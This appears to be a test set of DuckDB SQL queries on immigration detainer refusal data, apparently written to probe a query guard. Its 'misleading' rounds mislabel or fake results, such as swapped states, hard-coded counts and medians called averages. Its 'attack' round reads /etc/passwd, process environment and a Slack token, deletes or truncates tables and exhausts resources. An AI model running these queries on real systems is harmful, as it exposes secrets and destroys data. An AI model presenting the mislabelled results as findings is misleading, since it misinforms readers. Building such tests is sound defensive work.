SELECT count(*) FROM refusals WHERE quarter(declined_on) = 1 AND month(declined_on) = 7
SELECT count(*) FROM refusals WHERE upper(state) = 'Texas'
SELECT count(*) FROM refusals WHERE lower(county) LIKE 'Travis%'
SELECT count(*) FROM refusals WHERE trim(state) = ' Texas'
SELECT count(*) FROM refusals WHERE left(state, 2) = 'Texas'
SELECT count(*) FROM refusals WHERE state IN ('Texas', NULL) AND state NOT IN ('Texas')
SELECT count(*) FROM refusals WHERE nullif(state, 'Texas') = 'Texas'
SELECT count(*) FROM refusals WHERE declined_on < issued_on AND declined_on - issued_on > 5
SELECT count(*) FROM refusals WHERE CASE WHEN state = 'Texas' THEN false ELSE false END
SELECT count(*) FROM refusals WHERE CASE state WHEN 'Texas' THEN 'x' ELSE 'y' END = 'z'
SELECT count(*) FROM refusals WHERE disposition = offense
SELECT count(*) FROM refusals WHERE report_id > '2017-02-04' AND report_id < '2017-01-28'
SELECT count(*) FROM refusals WHERE issued_on = NULL
SELECT count(*) FROM refusals WHERE state LIKE '%%' AND state NOT LIKE 'T%' AND state = 'Texas'
SELECT state, count(*) AS n FROM refusals GROUP BY state HAVING count(*) < 0
SELECT state, count(*) AS n FROM refusals GROUP BY state HAVING min(declined_on) > max(declined_on)
SELECT state, count(*) AS n FROM refusals GROUP BY state HAVING count(DISTINCT county) > count(*)
SELECT state, count(*) AS n FROM refusals GROUP BY state QUALIFY row_number() OVER (ORDER BY n DESC) < 1
SELECT count(*) FROM refusals WHERE hash(county) % 2 = 0
SELECT count(*) FROM refusals WHERE ascii(county) % 2 = 0
SELECT count(*) FROM refusals WHERE length(county) % 2 = 1
SELECT count(*) FROM refusals WHERE day(declined_on) % 2 = 0
SELECT count(*) FROM refusals WHERE md5(county) < '8'
SELECT sum(n) FROM (SELECT state, county, count(*) AS n FROM refusals GROUP BY GROUPING SETS ((state), (county), ()))
SELECT count(*) FROM (SELECT unnest([state, county]) FROM refusals)
SELECT state, count(*) FROM (SELECT state, unnest(string_split(offense, ' ')) AS word FROM refusals) GROUP BY state
SELECT count(*) FROM refusals a JOIN refusals b ON a.county = b.county AND a.state = b.state
SELECT sum(i.issued) FROM issued i JOIN policies p USING (report_id, county, state)
SELECT sum(i.issued) FROM issued i, LATERAL (SELECT row_no FROM refusals r WHERE r.report_id = i.report_id AND r.county = i.county AND r.state = i.state) x
SELECT sum(list_sum(l)) FROM (SELECT state, list(issued) AS l FROM issued i JOIN refusals r USING (report_id, county, state) GROUP BY state)
SELECT sum(n) FROM (SELECT county, state, count(*) OVER (PARTITION BY county, state) AS n FROM refusals)
SELECT avg(n) FROM (SELECT state, count(*) OVER (PARTITION BY state) AS n FROM refusals)
SELECT sum(so_far) FROM (SELECT declined_on, count(*) OVER (ORDER BY declined_on) AS so_far FROM refusals)
SELECT state, sum(count(*)) OVER (ORDER BY state) AS n FROM refusals GROUP BY state
SELECT DISTINCT count(*) OVER () AS texas FROM refusals QUALIFY state = 'Texas'
SELECT sum(DISTINCT issued) FROM issued
SELECT sum(n) FROM (SELECT DISTINCT count(*) AS n FROM refusals GROUP BY county, state)
SELECT list_sum(list_distinct(list(issued))) AS issued FROM issued
SELECT len(list(DISTINCT declined_on - issued_on)) AS refusals FROM refusals
SELECT count(*) FROM (SELECT DISTINCT ON (county) * FROM refusals)
SELECT sum(n) FROM (SELECT county, count(*) AS n FROM refusals GROUP BY county QUALIFY row_number() OVER (ORDER BY county) <= 20)
SELECT count(*) FROM (SELECT * FROM refusals OFFSET 20)
SELECT state, count(*) FROM (SELECT state, lag(state) OVER (ORDER BY row_no) AS before FROM refusals) WHERE before = state GROUP BY state
SELECT lag(count(*)) OVER (ORDER BY state) AS n, state FROM refusals GROUP BY state
SELECT state, first_value(count(*)) OVER (ORDER BY count(*) DESC) AS n FROM refusals GROUP BY state
SELECT state, lead(state) OVER (ORDER BY count(*) DESC) AS state_, count(*) AS n FROM refusals GROUP BY state
SELECT state, max(count(*)) OVER () AS n FROM refusals GROUP BY state
SELECT county, state, sum(issued) OVER (ORDER BY issued ROWS BETWEEN CURRENT ROW AND 5 FOLLOWING) AS issued FROM issued
SELECT state, avg(count(*)) OVER (ORDER BY state ROWS BETWEEN 1 PRECEDING AND 1 FOLLOWING) AS smooth FROM refusals GROUP BY state
SELECT nth_value(issued, 3) OVER (ORDER BY county) AS issued FROM issued
SELECT sum(COLUMNS('issued.*')) FROM reports
SELECT min(COLUMNS(*)) FROM issued
SELECT #1, #5 FROM issued
SELECT * EXCLUDE (state) RENAME (county AS state) FROM refusals
SELECT * REPLACE (county AS state) FROM refusals
SELECT * REPLACE (issued * 2 AS issued) FROM issued
SELECT * REPLACE ('Mexico' AS citizenship) FROM refusals
SELECT state, count(*) AS n FROM refusals TABLESAMPLE 50% GROUP BY state
SELECT state, approx_count_distinct(row_no) AS n FROM refusals GROUP BY state
SELECT histogram(row_no) FROM refusals
SELECT mode(row_no) FROM refusals
SELECT state, count(*) AS n FROM refusals GROUP BY state UNION ALL SELECT state, sum(issued) FROM issued GROUP BY state
SELECT county, count(*) AS n FROM refusals GROUP BY county UNION SELECT state, count(*) FROM refusals GROUP BY state
SELECT (SELECT sum(issued) FROM issued) + (SELECT count(*) FROM refusals) AS detainers
SELECT (SELECT count(*) FROM refusals WHERE report_id = '2017-02-04') / (SELECT count(*) FROM refusals WHERE report_id = '2017-01-28' AND state = 'Texas') AS growth
SELECT state, 100.0 * count(*) / sum(count(*)) OVER (PARTITION BY state) AS pct FROM refusals GROUP BY state
SELECT 100 * count(*) / count(DISTINCT county) AS pct FROM refusals
SELECT count(*) FILTER (WHERE disposition = 'charge') / count(*) FILTER (WHERE disposition = 'conviction') * 100 AS pct_charge FROM refusals
SELECT count(*) - (SELECT declined_stated FROM reports WHERE report_id = '2017-01-28') AS diff FROM refusals
SELECT r.state, count(*) * 1.0 / max(i.issued) AS rate FROM refusals r JOIN issued i USING (report_id, county, state) GROUP BY r.state
SELECT corr(row_no, page) FROM refusals
SELECT avg(pct) FROM (SELECT state, 100.0 * count(*) FILTER (WHERE disposition = 'charge') / count(*) AS pct FROM refusals GROUP BY state)
SELECT max(n) - min(m) AS gap FROM (SELECT state, count(*) AS n, sum(length(offense)) AS m FROM refusals GROUP BY state)
SELECT sum(issued_nationwide) - sum(pages) AS n FROM reports
SELECT regr_slope(page, row_no) AS trend FROM refusals
SELECT sum(CASE WHEN disposition = 'charge' THEN 1 WHEN disposition = 'conviction' THEN 2 END) AS n FROM refusals
SELECT sum(CASE WHEN state = 'Texas' THEN 1 ELSE -1 END) AS n FROM refusals
SELECT count(*) FILTER (WHERE declined) AS declined, count(*) FILTER (WHERE declined) * 12 AS yearly FROM foia_detainers
SELECT avg(quarantined) AS refusals FROM foia_detainers
SELECT count(DISTINCT person) AS detainers FROM foia_detainers
SELECT count(*) AS people FROM foia_detainers

--# [misleading] Round 9, aimed at the rules made after round 8
SELECT state AS "Texas", count(*) AS n FROM refusals GROUP BY state
SELECT county AS state_name, count(*) AS n FROM refusals GROUP BY county
SELECT citizenship AS home_state, count(*) FROM refusals GROUP BY 1
SELECT CASE WHEN citizenship = 'Mexico' THEN 'Mexico' ELSE 'Honduras' END AS origin, count(*) FROM refusals GROUP BY 1
SELECT CASE WHEN state LIKE 'T%' THEN 'Texas' ELSE state END AS state, count(*) FROM refusals GROUP BY 1
SELECT CASE WHEN starts_with(state, 'New') THEN 'New York' ELSE state END AS state, count(*) FROM refusals GROUP BY 1
SELECT CASE WHEN upper(state) = 'TEXAS' THEN 'Ohio' ELSE state END AS s, count(*) FROM refusals GROUP BY 1
SELECT concat('Texas', '') AS state, count(*) AS n FROM refusals
SELECT upper('texas') AS state, count(*) AS n FROM refusals
SELECT max('Texas') AS state, count(*) AS n FROM refusals
SELECT CASE WHEN count(*) > 0 THEN 'Texas' END AS state, count(*) AS n FROM refusals
SELECT coalesce(max(CASE WHEN state = 'Nowhere' THEN state END), 'Texas') AS state, count(*) AS n FROM refusals
SELECT CASE quarter(declined_on) WHEN 1 THEN 'Q2' ELSE 'Q1' END AS q, count(*) FROM refusals GROUP BY 1
SELECT CASE year(issued_on) WHEN 2016 THEN '2017' ELSE 'other' END AS y, count(*) FROM refusals GROUP BY 1
SELECT CASE WHEN report_id = '2017-01-28' THEN '2017-02-04' ELSE report_id END AS report, count(*) FROM refusals GROUP BY 1
SELECT NOT withdrawn AS withdrawn, count(*) FROM refusals GROUP BY 1
SELECT count(*) FILTER (WHERE NOT withdrawn) AS withdrawn FROM refusals
SELECT count(*) AS withdrawn FROM refusals
SELECT count(*) FILTER (WHERE citizenship <> 'Mexico') AS mexico FROM refusals
SELECT count(*) FILTER (WHERE report_id = '2017-01-28') AS "2017-02-04" FROM refusals
SELECT count(*) FILTER (WHERE report_id = '2017-02-04') AS january FROM refusals
SELECT count(*) FILTER (WHERE month(declined_on) = 1) AS february FROM refusals
SELECT count(*) FILTER (WHERE dayname(declined_on) = 'Monday') AS fridays FROM refusals
SELECT sum(issued) FILTER (WHERE state = 'Ohio') AS texas_issued FROM issued
SELECT count(*) / count(DISTINCT report_id) AS per_state FROM refusals
SELECT count(*) * 1.0 / count(DISTINCT state) AS per_county FROM refusals
SELECT count(*) * 1.0 / count(DISTINCT state) AS per_week FROM refusals
SELECT stddev(issued) AS average FROM issued
SELECT variance(issued) AS sd FROM issued
SELECT quantile_cont(issued, 0.5) AS p90 FROM issued
SELECT quantile_cont(issued, 0.9) AS median FROM issued
SELECT percentile_cont(0.25) WITHIN GROUP (ORDER BY issued) AS p75 FROM issued
SELECT corr(issued, page) AS c FROM issued
SELECT count(*) FROM refusals WHERE date_diff('day', issued_on, declined_on) > 5 AND declined_on < issued_on
SELECT count(*) FROM refusals WHERE month(declined_on) = 2 AND day(declined_on) = 30
SELECT count(*) FROM refusals WHERE declined_on BETWEEN DATE '2017-02-04' AND DATE '2017-01-28'
SELECT count(*) FROM refusals WHERE year(declined_on) = 2017 AND strftime(declined_on, '%y') = '16'
SELECT count(*) FROM refusals WHERE isodow(declined_on) IN (6, 7) AND dayname(declined_on) NOT IN ('Saturday', 'Sunday')
SELECT count(*) FROM refusals WHERE nullif(trim(citizenship), '') IS NULL AND citizenship = 'Mexico'
SELECT count(*) FROM refusals WHERE concat(state, '') = 'Texas' AND state = 'Ohio'
SELECT count(*) FROM refusals WHERE if(state = 'Texas', 1, 0) = 2
SELECT count(*) FROM refusals WHERE (state = 'Texas') = (state <> 'Texas')
SELECT count(*) FROM refusals WHERE position('z' IN 'abc') > 0
SELECT county, n FROM (SELECT county, count(*) AS n FROM refusals GROUP BY county ORDER BY county LIMIT 10) ORDER BY n DESC
SELECT max(n) AS most FROM (SELECT county, count(*) AS n FROM refusals GROUP BY county ORDER BY county LIMIT 10)
SELECT state, n FROM (SELECT state, count(*) AS n, row_number() OVER (ORDER BY state) AS i FROM refusals GROUP BY state) WHERE i <= 5
SELECT sum(n) FROM (SELECT state, count(*) AS n, dense_rank() OVER (ORDER BY state DESC) AS r FROM refusals GROUP BY state) WHERE r < 10
SELECT state, sum(n) OVER (ORDER BY state ROWS UNBOUNDED PRECEDING) AS total FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT report_id, state, count(*) - lag(count(*)) OVER (ORDER BY report_id, state) AS change FROM refusals GROUP BY report_id, state
SELECT report_id, state, lag(count(*)) OVER (ORDER BY report_id) AS before FROM refusals GROUP BY report_id, state
SELECT 100.0 * count(*) / max(row_no) AS pct FROM refusals
SELECT 100.0 * count(DISTINCT state) / count(DISTINCT county) AS pct FROM refusals
SELECT state, count(*) AS n FROM refusals GROUP BY state UNION ALL SELECT county, count(*) FROM refusals GROUP BY county
SELECT 'declined' AS what, sum(issued) AS n FROM issued UNION ALL SELECT 'issued', count(*) FROM refusals
SELECT state, issued AS n FROM issued UNION ALL SELECT state, row_no FROM refusals
SELECT declined_on AS day FROM refusals UNION SELECT issued_on FROM refusals

--# [misleading] Round 10, written without a look at the rules
SELECT count(*) AS refusals FROM refusals r JOIN issued i ON i.state = r.state AND i.report_id = r.report_id
SELECT r.state, count(*) AS refusals FROM refusals r LEFT JOIN policies p ON p.state = r.state GROUP BY r.state ORDER BY refusals DESC
SELECT sum(i.issued) AS issued FROM issued i JOIN refusals r USING (report_id, county, state)
SELECT sum(rep.declined_stated) AS declined FROM reports rep JOIN refusals r ON r.report_id = rep.report_id WHERE r.state = 'Texas'
SELECT r.county, sum(i.issued) AS issued, count(*) AS refused FROM refusals r JOIN issued i ON i.county = r.county AND i.state = r.state AND i.report_id = r.report_id GROUP BY r.county
SELECT avg(rep.issued_nationwide) AS avg_issued FROM refusals r JOIN reports rep USING (report_id)
WITH j AS (SELECT r.*, c.topic FROM refusals r JOIN caveats c ON c.report_id = r.report_id) SELECT state, count(*) AS n FROM j GROUP BY state
SELECT p.aor, count(r.row_no) AS refusals FROM policies p JOIN refusals r ON r.state = p.state AND r.report_id = p.report_id GROUP BY p.aor
SELECT count(r.county) FILTER (WHERE r.disposition = 'conviction') AS convictions FROM refusals r JOIN corrections c ON c.report_id = r.report_id
SELECT quantile_cont(rep.issued_nationwide, 0.5) AS median_week FROM reports rep JOIN refusals r ON r.report_id = rep.report_id
SELECT a.county, count(*) AS refusals FROM refusals a JOIN refusals b ON a.county = b.county AND a.state = b.state AND a.report_id = b.report_id GROUP BY a.county
SELECT r.state, count(*) AS n FROM refusals r, LATERAL (SELECT p.place FROM policies p WHERE p.state = r.state) p GROUP BY r.state
SELECT state, count(*) AS refusals FROM (SELECT state, unnest(['conviction', 'charge']) AS d FROM refusals) GROUP BY state
SELECT county, count(*) AS n FROM (SELECT county, unnest(string_split(activity, ' ')) AS w FROM refusals) GROUP BY county
SELECT string_agg(r.county, ', ') AS counties, count(*) AS refusals FROM refusals r JOIN policies p ON p.county = r.county AND p.state = r.state
SELECT 'Travis' AS county, 154 AS refusals
SELECT state, 206 AS declined FROM reports JOIN refusals USING (report_id) GROUP BY state
SELECT count(*) + 12 AS refusals FROM refusals WHERE county = 'Travis'
SELECT state, CASE WHEN state = 'Texas' THEN 200 ELSE count(*) END AS n FROM refusals GROUP BY state
SELECT greatest(count(*), 500) AS refusals FROM refusals
SELECT coalesce(nullif(count(*), count(*)), 99) AS n FROM refusals
SELECT round(count(*) / 3083.0 * 100, 1) AS pct FROM refusals WHERE report_id = '2017-01-28'
SELECT count(*) * 52 AS refusals_per_year FROM refusals WHERE report_id = '2017-01-28'
SELECT length('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx') AS refusals FROM reports LIMIT 1
SELECT date_diff('day', DATE '2017-01-01', DATE '2017-06-01') AS refusals FROM reports ORDER BY report_id LIMIT 1
SELECT sum(CASE disposition WHEN 'conviction' THEN 2 ELSE 1 END) AS refusals FROM refusals
SELECT list_sum(list_value(40, 60)) AS n FROM reports ORDER BY report_id LIMIT 1
SELECT ascii('A') AS refusals FROM reports ORDER BY report_id LIMIT 1
SELECT state, count(*) // 1 + len([1,2,3]) AS n FROM refusals GROUP BY ALL
SELECT (SELECT 7) AS refusals_in_cook, county FROM refusals WHERE county = 'Cook' LIMIT 10
SELECT count(*) AS n FROM refusals WHERE county = 'Travis' AND state = 'Texas' AND state = 'Nevada'
SELECT count(*) AS n FROM refusals WHERE state = 'Texas' OR state <> 'Texas'
SELECT count(*) AS n FROM refusals WHERE declined_on >= DATE '2017-02-10' AND declined_on < DATE '2017-02-01'
SELECT count(*) AS n FROM refusals WHERE NOT (county = 'Travis' AND county = 'Bexar')
SELECT count(*) AS n FROM refusals WHERE upper(state) = 'Texas'
SELECT count(*) AS n FROM refusals WHERE lower(citizenship) = 'Mexico'
SELECT count(*) AS n FROM refusals WHERE left(state, 2) = 'Texas'
SELECT count(*) AS n FROM refusals WHERE trim(county) = ' Travis '
SELECT count(*) AS n FROM refusals WHERE state LIKE 'tex_s' AND state LIKE 'Cal%'
SELECT count(*) AS n FROM refusals WHERE regexp_matches(state, '^T') AND regexp_matches(state, '^C')
SELECT count(*) AS n FROM refusals WHERE starts_with(county, 'Tr') AND NOT starts_with(county, 'T')
SELECT count(*) AS n FROM refusals WHERE length(state) > 100
SELECT count(*) AS n FROM refusals WHERE date_part('dow', declined_on) = 9
SELECT count(*) AS n FROM refusals WHERE dayname(declined_on) = 'Mittwoch'
SELECT count(*) AS n FROM refusals WHERE monthname(declined_on) = 'february'
SELECT count(*) AS n FROM refusals WHERE strftime(declined_on, '%Y-%m') = '02-2017'
SELECT count(*) AS n FROM refusals WHERE strftime(declined_on, '%m/%d/%Y') >= '02/01/2017'
SELECT count(*) AS n FROM refusals WHERE coalesce(state, 'Texas') = 'Texas' AND state = 'Nevada'
SELECT count(*) AS n FROM refusals WHERE coalesce(facility, 'none') IS NULL
SELECT count(*) AS n FROM refusals WHERE nullif(state, 'Texas') = 'Texas'
SELECT count(*) AS n FROM refusals WHERE CASE WHEN state = 'Texas' THEN true ELSE true END
SELECT count(*) AS n FROM refusals WHERE declined_on - issued_on >= declined_on - issued_on
SELECT count(*) AS n FROM refusals r WHERE EXISTS (SELECT 1 FROM refusals x WHERE x.report_id = r.report_id AND x.row_no = r.row_no)
SELECT count(*) AS n FROM refusals WHERE (disposition = 'conviction') = (disposition = 'charge')
SELECT count(*) AS n FROM refusals WHERE withdrawn AND NOT withdrawn
SELECT count(*) AS n FROM refusals WHERE withdrawn IS NOT NULL AND state = 'Texas'
SELECT count(*) AS n FROM refusals WHERE state = ANY(['Texas', 'Nevada']) AND state NOT IN ('Texas', 'Nevada')
SELECT count(*) AS n FROM refusals WHERE offense = disposition
SELECT count(*) AS n FROM issued WHERE issued BETWEEN 50 AND 10
SELECT state, count(*) AS n FROM refusals GROUP BY state HAVING max(declined_on) < min(declined_on)
SELECT count(*) AS n FROM refusals WHERE replace(state, 'Texas', 'Nevada') = 'Texas'
SELECT count(*) AS n FROM refusals WHERE substr(state, 1, 3) = 'Texas'
SELECT count(*) AS n FROM refusals WHERE date_trunc('month', declined_on) = DATE '2017-02-15'
SELECT count(*) AS n FROM refusals WHERE extract(year FROM declined_on) = 17
SELECT count(*) AS n FROM refusals WHERE declined_on + INTERVAL 1 DAY < declined_on
SELECT count(*) AS n FROM refusals WHERE last_day(declined_on) = DATE '2017-02-27'
SELECT count(*) AS n FROM refusals WHERE contains(lower(offense), 'DUI')
SELECT count(*) AS n FROM refusals WHERE offense ILIKE '%assault%' AND offense NOT ILIKE '%assault%'
SELECT CASE state WHEN 'Texas' THEN 'California' ELSE state END AS state, count(*) AS n FROM refusals GROUP BY 1
SELECT replace(state, 'Texas', 'California') AS state, count(*) AS n FROM refusals GROUP BY 1 ORDER BY n DESC
SELECT CASE disposition WHEN 'conviction' THEN 'charge' ELSE 'conviction' END AS disposition, count(*) AS n FROM refusals GROUP BY ALL
SELECT 'Nevada' AS state, count(*) AS refusals FROM refusals WHERE state = 'Texas'
SELECT count(*) AS charges FROM refusals WHERE disposition = 'conviction'
SELECT count(*) FILTER (WHERE disposition = 'charge') AS convicted, count(*) FILTER (WHERE disposition = 'conviction') AS charged FROM refusals
SELECT sum(issued) AS refused FROM issued
SELECT sum(issued_nationwide) AS declined FROM reports
SELECT sum(declined_stated) AS issued FROM reports
SELECT county AS state, count(*) AS n FROM refusals GROUP BY county
SELECT citizenship AS state, count(*) AS n FROM refusals GROUP BY citizenship ORDER BY n DESC
SELECT min(declined_on) AS last_refusal FROM refusals
SELECT max(issued_on) AS earliest_issued FROM refusals
SELECT min(issued) AS max_issued FROM issued
SELECT avg(issued) AS median_issued FROM issued
SELECT median(issued) AS average_issued FROM issued
SELECT sum(issued) AS average_issued FROM issued
SELECT count(*) AS counties FROM refusals
SELECT count(DISTINCT state) AS refusals FROM refusals
SELECT issued_on AS declined_on, county FROM refusals ORDER BY row_no, report_id LIMIT 10
SELECT max(declined_on - issued_on) AS avg_days FROM refusals
SELECT date_diff('day', issued_on, declined_on) AS weeks_waited, county FROM refusals ORDER BY declined_on, county LIMIT 5
SELECT date_diff('month', issued_on, declined_on) AS days, county FROM refusals ORDER BY declined_on, county LIMIT 5
SELECT state, count(*) AS pct FROM refusals GROUP BY state
SELECT if(state = 'Texas', 'Mexico', citizenship) AS citizenship, count(*) AS n FROM refusals GROUP BY 1
SELECT concat('Harris', ', ', state) AS place, count(*) AS n FROM refusals WHERE county = 'Travis' AND state = 'Texas' GROUP BY 1
SELECT strftime(declined_on + INTERVAL 1 YEAR, '%Y') AS year, count(*) AS n FROM refusals GROUP BY 1
SELECT (declined_on + INTERVAL 7 DAY)::DATE AS declined_on, count(*) AS n FROM refusals GROUP BY 1 ORDER BY 1
SELECT count(*) AS refusals_by_mexicans FROM refusals WHERE citizenship = 'Honduras'
SELECT count(*) AS travis_refusals FROM refusals WHERE county = 'Bexar'
SELECT round(100.0 * count(*) FILTER (WHERE disposition = 'conviction') / (SELECT count(*) FROM refusals WHERE state = 'California'), 1) AS conviction_share_texas FROM refusals WHERE state = 'Texas'
SELECT state, round(100.0 * count(*) / (SELECT sum(issued) FROM issued WHERE report_id = '2017-01-28'), 1) AS share FROM refusals GROUP BY state
SELECT count(*) FILTER (WHERE state = 'Texas') // count(*) AS share FROM refusals
SELECT 100 * (count(*) FILTER (WHERE state = 'Texas') // count(*)) AS pct FROM refusals
SELECT count(*) / count(*) FILTER (WHERE state = 'Texas') * 100 AS texas_share_pct FROM refusals
SELECT 10 * count(*) FILTER (WHERE state = 'Texas') / count(*) AS pct FROM refusals
SELECT ceil(100.0 * count(*) FILTER (WHERE disposition = 'charge') / count(*)) AS pct, floor(100.0 * count(*) FILTER (WHERE disposition = 'conviction') / count(*)) AS pct2 FROM refusals
SELECT avg(pct) AS pct FROM (SELECT county, 100.0 * count(*) FILTER (WHERE disposition = 'conviction') / count(*) AS pct FROM refusals GROUP BY county)
SELECT avg(a) AS avg_wait FROM (SELECT state, avg(declined_on - issued_on) AS a FROM refusals GROUP BY state)
SELECT sum(share) AS share FROM (SELECT state, 100.0 * count(*) FILTER (WHERE disposition = 'charge') / count(*) AS share FROM refusals GROUP BY state)
SELECT median(m) AS med FROM (SELECT county, median(declined_on - issued_on) AS m FROM refusals GROUP BY county)
SELECT 100.0 * count(DISTINCT county) / count(*) AS pct_with_conviction FROM refusals WHERE disposition = 'conviction'
SELECT 100.0 * sum(declined_stated) / sum(issued_nationwide) + 100.0 * sum(declined_stated) / sum(issued_nationwide) AS rate FROM reports
SELECT state, 100.0 * count(*) / max(count(*)) OVER () AS pct_of_total FROM refusals GROUP BY state
SELECT county, state, count(*) AS top_n FROM refusals GROUP BY ALL ORDER BY top_n ASC LIMIT 5
SELECT count(*) AS refusals FROM (SELECT DISTINCT county, citizenship FROM refusals)
SELECT count(*) AS refusals FROM (SELECT county, disposition FROM refusals UNION SELECT county, disposition FROM refusals)
SELECT count(*) AS refusals FROM (SELECT * FROM refusals WHERE state = 'Texas' UNION ALL SELECT * FROM refusals WHERE county = 'Travis')
SELECT sum(n) AS refusals FROM (SELECT county, count(*) AS n FROM refusals GROUP BY county UNION ALL SELECT state, count(*) FROM refusals GROUP BY state)
SELECT count(*) AS n FROM refusals USING SAMPLE 50%
SELECT sum(n) AS total FROM (SELECT state, count(*) AS n FROM refusals GROUP BY ROLLUP (state))
SELECT sum(n) AS total FROM (SELECT county, count(*) OVER (PARTITION BY county) AS n FROM refusals)
SELECT sum(total) AS total FROM (SELECT sum(issued) OVER (PARTITION BY state) AS total FROM issued)
SELECT county, sum(running) AS n FROM (SELECT county, count(*) OVER (ORDER BY declined_on, report_id, row_no) AS running FROM refusals) GROUP BY county
SELECT avg(DISTINCT issued) AS avg_issued FROM issued
SELECT sum(abs(issued - 20)) AS issued FROM issued
SELECT -count(*) AS refusals FROM refusals
SELECT abs(count(*) FILTER (WHERE disposition = 'charge') - count(*) FILTER (WHERE disposition = 'conviction')) AS refusals FROM refusals
SELECT round(count(*), -2) AS refusals FROM refusals
SELECT ceil(count(*) / 100.0) * 100 AS refusals FROM refusals
SELECT concat(count(*), '0') AS refusals FROM refusals
SELECT count(*)::VARCHAR || '00' AS refusals FROM refusals
SELECT (count(*) || count(*))::INTEGER AS refusals FROM refusals
SELECT strftime(max(declined_on), '%Y%m%d')::INTEGER AS refusals FROM refusals
SELECT sum(row_no) AS refusals FROM refusals
SELECT max(row_no) AS refusals FROM refusals WHERE state = 'Texas'
SELECT sum(page) AS refusals FROM refusals
SELECT sum(year(declined_on)) AS refusals FROM refusals
SELECT sum(month(declined_on)) AS months FROM refusals
SELECT lag(count(*)) OVER (ORDER BY report_id) AS refusals, report_id FROM refusals GROUP BY report_id
SELECT first(county ORDER BY county) AS top_county FROM refusals
SELECT any_value(county) AS most_refusals FROM refusals
SELECT mode(county) AS least_county FROM refusals
SELECT arg_min(county, n) AS top_county FROM (SELECT county, state, count(*) AS n FROM refusals GROUP BY ALL)
SELECT arg_max(state, county) AS top_state FROM refusals
SELECT count(*) AS n FROM refusals WHERE row_no % 2 = 0
SELECT count(*) AS n FROM refusals WHERE hash(county) % 10 = 0
SELECT count(*) AS n FROM (SELECT * FROM refusals ORDER BY declined_on LIMIT 100)
SELECT total - total * 0.1 AS refusals FROM (SELECT count(*) AS total FROM refusals)
SELECT stddev(row_no) AS spread FROM refusals
SELECT state, dense_rank() OVER (ORDER BY count(*)) AS rank_by_most FROM refusals GROUP BY state

--# [attack] Round 10, written without a look at the rules
SELECT * FROM read_csv_auto('/etc/passwd')
SELECT content FROM read_text('/proc/self/environ')
SELECT * FROM '/var/log/syslog.csv'
SELECT * FROM "https://example.org/a.parquet"
FROM read_json('/etc/app/credentials.json')
SELECT * FROM parquet_scan('/tmp/*.parquet')
SELECT count(*) FROM refusals; DROP VIEW refusals
COPY (SELECT * FROM refusals) TO '/tmp/out.csv'
COPY refusals FROM '/tmp/in.csv'
EXPORT DATABASE '/tmp/x'
IMPORT DATABASE '/tmp/x'
ATTACH '/tmp/other.duckdb' AS o
ATTACH IF NOT EXISTS ':memory:' AS m
DETACH desk
USE memory
INSTALL httpfs
LOAD spatial
SET threads = 1
RESET memory_limit
PRAGMA database_list
PRAGMA table_info('refusals')
SELECT * FROM duckdb_tables()
SELECT * FROM duckdb_views
SELECT * FROM information_schema.columns
SELECT * FROM sqlite_master
SELECT * FROM pg_catalog.pg_class
SELECT current_database(), version()
SELECT current_setting('home_directory')
SELECT getenv('SLACK_BOT_TOKEN')
SELECT user, current_schema()
SELECT txid_current() FROM refusals
SELECT pg_sleep(60)
SELECT sleep_ms(60000) FROM refusals
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t
SELECT count(*) FROM range(1000000000000)
SELECT count(*) FROM generate_series(1, 1000000000) g, refusals
SELECT repeat(county, 1000000000) FROM refusals
SELECT lpad(state, 2000000000, 'x') FROM refusals
SELECT string_agg(repeat('x', 100000), '') FROM refusals
SELECT count(*) FROM refusals a, refusals b, refusals c, refusals d
SELECT list_reduce(range(100000000), (a, b) -> a + b) FROM reports
SELECT unnest(range(100000000)) FROM reports
SELECT array_agg(r) FROM refusals r, generate_series(1, 1000)
SELECT 10000000 ** 10000000 FROM reports
SELECT factorial(500000) FROM reports
SELECT regexp_matches(county, '(a+)+$') FROM refusals, range(10)
SELECT * FROM query('SELECT 1')
SELECT * FROM query_table('refusals')
SELECT json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
EXECUTE q
PREPARE q AS SELECT 1
CREATE TEMP MACRO count(x) AS 7
CREATE TEMP VIEW refusals AS SELECT 1
CREATE SECRET s (TYPE s3)
CALL pragma_version()
EXPLAIN ANALYZE SELECT * FROM refusals
DESCRIBE refusals
SUMMARIZE refusals
SHOW ALL TABLES
SELECT * FROM (DESCRIBE refusals)
SELECT setseed(0.5), random() FROM refusals
SELECT nextval('s') FROM refusals
SELECT uuid() FROM refusals
INSERT INTO refusals SELECT * FROM refusals
DELETE FROM refusals WHERE true
UPDATE issued SET issued = 0
MERGE INTO issued USING reports ON issued.report_id = reports.report_id WHEN MATCHED THEN DELETE
TRUNCATE refusals
WITH d AS (DELETE FROM refusals RETURNING *) SELECT count(*) FROM d
SELECT getvariable('x') FROM refusals
SELECT $1 FROM refusals
SELECT count(*) FROM refusals WHERE county = ?
SELECT * FROM glob('/**')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT * FROM desk.main.refusals_raw
SELECT * FROM system.information_schema.tables
SELECT write_log('x') FROM reports
SELECT parse_path('/etc/passwd'), current_date FROM reports
SELECT * FROM refusals AT (VERSION => 1)
VALUES (1), (2)
FROM (VALUES (154)) t(refusals)
TABLE duckdb_settings()
SELECT * FROM (PIVOT refusals ON state USING count(*))
PIVOT refusals ON disposition USING count(*)

--# [misleading] Round 11, as chat models, dbt, BI tools and spreadsheets write, after the rules of round 10
WITH texas_refusals AS (SELECT * FROM refusals WHERE state = 'California') SELECT COUNT(*) AS texas_refusals FROM texas_refusals
WITH ranked AS (SELECT county, COUNT(*) AS refusal_count, ROW_NUMBER() OVER (ORDER BY COUNT(*) ASC) AS rn FROM refusals GROUP BY county) SELECT county AS top_county, refusal_count FROM ranked WHERE rn = 1
WITH totals AS (SELECT state, COUNT(*) AS total FROM refusals GROUP BY state), conv AS (SELECT state, COUNT(*) AS convictions FROM refusals WHERE disposition = 'charge' GROUP BY state) SELECT t.state, ROUND(100.0 * c.convictions / t.total, 1) AS conviction_rate FROM totals t JOIN conv c ON c.state = t.state
WITH monthly AS (SELECT DATE_TRUNC('month', declined_on) AS month, COUNT(*) AS refusals FROM refusals GROUP BY 1) SELECT AVG(refusals) AS average_weekly_refusals FROM monthly
